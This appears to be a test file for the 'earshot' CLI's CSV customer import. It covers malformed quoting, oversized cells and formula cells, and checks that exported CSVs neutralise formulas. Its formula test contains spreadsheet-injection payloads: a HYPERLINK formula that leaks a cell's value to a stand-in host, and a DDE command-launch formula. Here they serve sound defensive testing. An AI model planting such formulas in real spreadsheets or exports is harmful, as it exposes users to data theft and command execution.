/**
 * Hostile CSV imports (`earshot import customers`, a real CLI process against a live server's
 * database): malformed quoting ends in a clear one-line error with the line number (never a stack
 * trace), 1 MB cells are refused or stored without the importer or the server blowing up, and
 * formula cells are kept as data but neutralised in every CSV earshot writes. The server keeps
 * serving and its memory stays flat.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { startLiveServer, type LiveServer } from '../helpers/live.ts';
import { watchMemory, type MemoryWatch } from '../helpers/attack.ts';
import { runCli } from '../helpers/process.ts';
import { csvCell, parseCsvText, CsvError } from '../../src/csv.ts';

let server: LiveServer;
let memory: MemoryWatch;
let dir: string;
let n = 0;
const importCsv = async (text: string) => {
  const file = join(dir, `in-${n++}.csv`);
  writeFileSync(file, text);
  return runCli(['import', 'customers', file, '--no-progress'], '', {
    DATABASE_URL: server.database.url,
    EARSHOT_DB_SCHEMA: server.database.schema,
    LOG_LEVEL: 'warn',
  });
};

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'earshot-hostile-csv-'));
  server = await startLiveServer();
  memory = watchMemory(server);
}, 180_000);
afterAll(async () => {
  await memory.expectFlat();
  await server.stop();
  rmSync(dir, { recursive: true, force: true });
}, 120_000);

describe('hostile CSV imports', () => {
  it('stops with one clear line naming the line number when a quote never closes', { timeout: 120_000 }, async () => {
    const r = await importCsv('customer_id,name\r\nC-1,ok\r\nC-2,"never closed\r\nC-3,lost\r\n');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/line 3: the file ends inside a quoted field/);
    expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
  });

  it(
    'reads stray quotes, ragged rows and binary junk row by row, rejecting what does not fit',
    { timeout: 120_000 },
    async () => {
      const r = await importCsv(
        [
          'customer_id,name,email',
          'C-20,ab"c,',
          '"C-21"x,y,',
          'C-22,"a""b",',
          'C-23',
          'C-24,\u0001\u0002\uFFFD,',
          'C-25,a,b,c,d',
        ].join('\n'),
      );
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toMatch(/6 rows: \d customers added, 0 updated, 2 rejected/);
      expect(r.stderr).toContain('line 5: has 1 fields, the header has 3');
      expect(r.stderr).toContain('line 7: has 5 fields, the header has 3');
    },
  );

  it(
    'refuses a 1 MB customer_id, stores a 1 MB attribute whole, and survives a 1 MB quoted cell full of line breaks',
    { timeout: 180_000 },
    async () => {
      const mb = 1024 * 1024;
      const r = await importCsv(
        [
          'customer_id,name,notes',
          `${'X'.repeat(mb)},Huge Id,`,
          `C-30,Big Notes,${'n'.repeat(mb)}`,
          `C-31,Lines,"${'line\r\n'.repeat(mb / 6)}"`,
        ].join('\r\n'),
      );
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain('3 rows: 2 customers added, 0 updated, 1 rejected');
      expect(r.stderr).toContain('line 2: customer_id is longer than 200 characters');
      const { rows } = await server.database.db.query<{ len: number }>(
        "SELECT length(attributes->>'notes') AS len FROM customers WHERE customer_id = 'C-30'",
      );
      expect(rows[0]?.len).toBe(mb);
    },
  );

  it('keeps formula cells as data and neutralises them in every CSV earshot writes', { timeout: 120_000 }, async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      "=cmd|' /C calc'!A0",
    ];
    const quoted = (f: string) => `"${f.replace(/"/g, '""')}"`;
    const r = await importCsv(['customer_id,name', ...formulas.map((f, i) => `C-4${i},${quoted(f)}`)].join('\r\n'));
    expect(r.code, r.stderr).toBe(0);
    const { rows } = await server.database.db.query<{ name: string }>(
      "SELECT name FROM customers WHERE customer_id LIKE 'C-4_' ORDER BY customer_id",
    );
    expect(rows.map((x) => x.name)).toEqual(formulas.map((f) => f.trim())); // stored as the text it is (cells are trimmed)
    // Written back out, no cell starts a formula; read back in, the text is what was written.
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom(...formulas),
          fc.string().map((s) => `=${s}`),
        ),
        (text) => {
          const cell = csvCell(text);
          const unquoted = cell.startsWith('"') ? cell.slice(1) : cell;
          expect(unquoted).not.toMatch(/^[=+\-@\t\r]/);
          const [back] = parseCsvText(`${cell}\r\n`);
          const value = back?.fields.join(',') ?? '';
          expect(value === text || value === `'${text}`).toBe(true);
        },
      ),
      { numRuns: 500 },
    );
    expect(csvCell(-5)).toBe('-5'); // numbers stay numbers
  });

  it('never throws anything but a CsvError on random text (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        try {
          parseCsvText(text);
        } catch (err) {
          expect(err).toBeInstanceOf(CsvError);
        }
      }),
      { numRuns: 2000 },
    );
  });
});
